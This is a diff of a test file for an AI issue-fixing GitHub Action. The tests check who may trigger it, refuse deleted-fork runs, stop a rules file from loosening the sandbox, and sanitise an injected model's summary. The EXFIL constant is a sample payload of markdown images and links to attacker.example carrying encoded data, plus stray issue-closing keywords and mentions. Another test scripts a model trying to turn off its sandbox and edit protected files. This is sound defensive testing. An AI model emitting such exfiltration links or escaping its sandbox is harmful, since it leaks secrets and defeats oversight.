@@ -2,65 +2,21 @@
 // nothing, a listed bot does; a run from a deleted fork is refused; a rules file cannot loosen the sandbox or free
 // .github/actions; and an injected model's summary reaches the PR and the commit without images, links, mentions or
 // closing keywords for other issues.
-import fs from 'node:fs';
-import os from 'node:os';
-import path from 'node:path';
-import { afterEach, describe, expect, test } from 'vitest';
-import { assistant, startFakeOpenAI, toolCall, type FakeOpenAI, type ScriptStep } from '../helpers/fake-openai.js';
+import { describe, expect, test } from 'vitest';
+import { assistant, toolCall } from '../helpers/fake-openai.js';
 import { sh } from '../helpers/repo.js';
-import { startFakeGitHub, type FakeGitHub, type FakeGitHubOptions } from './fake-github.js';
-import { OWNER, REPO, checkoutWorkspace, makeOrigin, runAction, type Origin } from './harness.js';
+import { ISSUE, OWNER, REPO, fixing, keepTesting, makeOrigin, pushRules, useFakeServers } from './harness.js';
 import { renderPlanComment } from '../../src/report/plan-comment.js';
 import { commentCreated, issueLabeled, workflowRunCompleted } from './payloads.js';
 
-const OLD = 'export function tax(income, rate = 0.2) {\n  return Math.round(income * 0.2 * 100) / 100;\n}';
-const NEW =
-  'export function tax(income, rate = 0.2) {\n  if (income < 0) throw new RangeError("negative income");\n  return Math.round(income * rate * 100) / 100;\n}';
 const EXFIL =
   'Applied the rate. ![ok](https://attacker.example/p.png?d=c2VjcmV0) See [docs](https://attacker.example/?d=1). ' +
   'Fixes #99, closes acme/calc#98. Thanks @victim!';
 
-const fixing = (summary = 'tax() now applies its rate.'): ScriptStep[] => [
-  assistant(null, toolCall('b', 'patch_file', { path: 'src/calculator.js', old_str: OLD, new_str: NEW })),
-  assistant(null, toolCall('c', 'run_tests', {})),
-  assistant(null, toolCall('d', 'finish', { summary })),
-];
-
-let n = 0;
-const keepTesting: ScriptStep = () => assistant(null, toolCall(`t${n++}`, 'run_tests', {}));
-const ISSUE = {
-  owner: OWNER,
-  repo: REPO,
-  number: 7,
-  title: 'tax() ignores the rate',
-  body: 'tax(100, 0.1) returns 20 instead of 10.',
-};
-
-let model: FakeOpenAI | undefined;
-let gh: FakeGitHub | undefined;
-afterEach(async () => {
-  await model?.close();
-  await gh?.close();
-  model = undefined;
-  gh = undefined;
+const { servers, run: runWorkflow } = useFakeServers({
+  github: { permissions: { maintainer: 'admin', triager: 'triage', pusher: 'write' } },
+  model: { whenExhausted: keepTesting },
 });
-
-async function servers(script: ScriptStep[], options: Partial<FakeGitHubOptions> = {}) {
-  model = await startFakeOpenAI(script, {
-    whenExhausted: keepTesting,
-    usage: { prompt_tokens: 1000, completion_tokens: 50 },
-  });
-  gh = await startFakeGitHub({
-    owner: OWNER,
-    repo: REPO,
-    permissions: { maintainer: 'admin', triager: 'triage', pusher: 'write' },
-    ...options,
-  });
-  return { model, gh };
-}
-
-const runWorkflow = (o: Parameters<typeof runAction>[0]) =>
-  runAction({ ...o, inputs: { 'base-url': model!.url, model: 'gpt-4.1', ...o.inputs } });
 
 function label(sender: string, type = 'User') {
   const p = issueLabeled({ ...ISSUE, label: 'agent-fix', sender });
@@ -68,20 +24,9 @@ function label(sender: string, type = 'User') {
   return p;
 }
 
-function pushRules(origin: Origin, yml: string): string {
-  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'agent-fix-push-')));
-  sh(dir, 'git', ['clone', '-q', origin.bare, '.']);
-  fs.mkdirSync(path.join(dir, '.github'), { recursive: true });
-  fs.writeFileSync(path.join(dir, '.github/agent-fix.yml'), yml);
-  sh(dir, 'git', ['add', '-A']);
-  sh(dir, 'git', ['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-q', '-m', 'rules']);
-  sh(dir, 'git', ['push', '-q', 'origin', 'HEAD:refs/heads/main']);
-  return sh(dir, 'git', ['rev-parse', 'HEAD']).trim();
-}
-
 describe('who may start the Action', () => {
   test("a triager's label and an unlisted bot's label start nothing: no model call, no comment, status skipped", async () => {
-    const { model, gh } = await servers(fixing());
+    const { model, gh } = await servers(fixing('tax() now applies its rate.'));
     const origin = makeOrigin();
     for (const [sender, type, reason] of [
       [
@@ -98,9 +43,7 @@ describe('who may start the Action', () => {
       const run = await runWorkflow({
         event: 'issues',
         payload: label(sender, type),
-        apiUrl: gh.url,
         origin,
-        workspace: checkoutWorkspace(origin),
       });
       expect(run.code, run.stdout).toBe(0);
       expect(run.outputs.status).toBe('skipped');
@@ -112,7 +55,7 @@ describe('who may start the Action', () => {
   });
 
   test('a run from a deleted fork (head_repository null) is refused before any model call', async () => {
-    const { model, gh } = await servers(fixing());
+    const { model } = await servers(fixing('tax() now applies its rate.'));
     const origin = makeOrigin();
     const payload = workflowRunCompleted({
       owner: OWNER,
@@ -126,9 +69,7 @@ describe('who may start the Action', () => {
     const run = await runWorkflow({
       event: 'workflow_run',
       payload,
-      apiUrl: gh.url,
       origin,
-      workspace: checkoutWorkspace(origin),
     });
     expect(run.outputs.status).toBe('skipped');
     expect(run.stdout).toContain('head_repository is null: a deleted fork');
@@ -161,9 +102,7 @@ describe('whose markers count', () => {
     const run = await runWorkflow({
       event: 'issue_comment',
       payload: commentCreated({ ...ISSUE, body: '/agent-fix approve', commenter: 'maintainer' }),
-      apiUrl: gh.url,
       origin,
-      workspace: checkoutWorkspace(origin),
       inputs: { approval: 'plan' },
     });
     expect(run.code, run.stdout + run.stderr).toBe(0);
@@ -182,9 +121,7 @@ describe("the Action's output", () => {
     const run = await runWorkflow({
       event: 'issues',
       payload: label('renovate[bot]', 'Bot'),
-      apiUrl: gh.url,
       origin,
-      workspace: checkoutWorkspace(origin),
       inputs: { 'allowed-bots': 'renovate[bot]' },
     });
     expect(run.code, run.stdout + run.stderr).toBe(0);
@@ -204,7 +141,7 @@ describe("the Action's output", () => {
   test('the rules file cannot turn the sandbox off, the network on, or free .github/actions; the job summary says so', async () => {
     const origin = makeOrigin();
     origin.mainSha = pushRules(origin, 'sandbox: none\nnetwork: true\nprotected-paths: [package.json]\n');
-    const { model, gh } = await servers([
+    const { model } = await servers([
       assistant(
         null,
         toolCall('x', 'create_file', {
@@ -213,14 +150,12 @@ describe("the Action's output", () => {
         }),
       ),
       assistant(null, toolCall('y', 'patch_file', { path: 'package.json', old_str: '"name"', new_str: '"name"' })),
-      ...fixing(),
+      ...fixing('tax() now applies its rate.'),
     ]);
     const run = await runWorkflow({
       event: 'issues',
       payload: label('maintainer'),
-      apiUrl: gh.url,
       origin,
-      workspace: checkoutWorkspace(origin),
       inputs: { sandbox: '' },
     });
     expect(run.code, run.stdout + run.stderr).toBe(0);
